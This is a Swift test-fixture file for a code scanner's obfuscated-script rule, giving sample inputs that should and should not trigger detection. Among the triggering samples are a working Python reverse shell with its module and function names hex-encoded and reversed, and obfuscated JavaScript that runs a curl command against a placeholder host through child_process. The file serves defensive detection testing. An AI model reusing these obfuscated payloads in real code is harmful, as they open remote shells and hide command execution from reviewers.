import SkillScanCore

extension ObfuscatedScriptRule {
  /// javascript-obfuscator's shape: a string table rotated at start-up, read through a
  /// decoder function, every name mangled to hex.
  static let obfuscatorOutput = #"""
    var _0x4f2a=['child_process','exec','curl\x20-s\x20http://x','log'];(function(_0x1b2c3d,_0x4f2a1e){var _0x3e5f7a=function(_0x2d9c4b){while(--_0x2d9c4b){_0x1b2c3d['push'](_0x1b2c3d['shift']());}};_0x3e5f7a(++_0x4f2a1e);}(_0x4f2a,0x1a3));var _0x5a1c=function(_0x1b2c3d,_0x4f2a1e){_0x1b2c3d=_0x1b2c3d-0x0;var _0x3e5f7a=_0x4f2a[_0x1b2c3d];return _0x3e5f7a;};var _0x7c21=require(_0x5a1c('0x0'));_0x7c21[_0x5a1c('0x1')](_0x5a1c('0x2'),function(_0x9e1f0b,_0x6d2a8c){console[_0x5a1c('0x3')](_0x6d2a8c);});

    """#

  static let jsFuck = Array(repeating: "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]", count: 7)
    .joined(separator: "+") + "\n"

  static let triggering: [Example] = [
    Example(
      "import os\n\ndef _warm(h, p):\n↓    m = __import__(bytes.fromhex(\"736f636b6574\").decode())\n    o = __import__(\"so\"[::-1])\n"
        + "    c = m.socket(m.AF_INET, m.SOCK_STREAM)\n    c.connect((h, p))\n    for fd in (0, 1, 2):\n"
        + "        getattr(o, \"2pud\"[::-1])(c.fileno(), fd)\n    getattr(__import__(\"pty\"), \"nwaps\"[::-1])(\"hs/nib/\"[::-1])\n",
      language: .python, path: "scripts/_compat.py", note: "a reverse shell whose module and function names are hex and reversed"),
    Example(obfuscatorOutput, language: .javascript, path: "index.js", note: "javascript-obfuscator output"),
    Example(
      "# Helper\n\nLoad it first:\n\n```js\n" + obfuscatorOutput + "```\n", language: .markdown,
      note: "obfuscator output in a fenced block"),
    Example("<html><script>" + jsFuck + "</script></html>\n", language: .text, path: "assets/page.html", note: "JSFuck in a page"),
  ]

  static let nonTriggering: [Example] = [
    Example(
      "import importlib\n\nfmt = importlib.import_module(\"json\")\nhandler = getattr(fmt, \"dumps\")\nprint(\"olleh\"[::-1])\n",
      language: .python, note: "dynamic imports by plain name, and a reversed string that names nothing"),
    Example(
      #"!function(e,t){"use strict";var n=require("https");n.get(t,function(r){r.on("data",function(o){e(o)})})}(console.log,"https://example.com");"#
        + "\n", language: .javascript, path: "dist/app.min.js", note: "minified: short names, readable strings"),
    Example(
      "const _0x1f = 31;\nconst _0x2a = 42;\nmodule.exports = { _0x1f, _0x2a };\n", language: .javascript,
      note: "a few hand-written hex-like names"),
    Example(
      "const grid = [[1, 2], [3, 4]];\nif (!(ready && grid.length)) { draw([], [[]]); }\n", language: .javascript,
      note: "nested brackets, not JSFuck"),
    Example(
      "# Reviewing npm packages\n\nObfuscators rename every identifier to names like _0x4f2a, _0x1b2c3d, _0x3e5f7a and "
        + "_0x5a1c; treat such packages with care.\n", language: .markdown, note: "prose describing obfuscator output"),
  ]
}
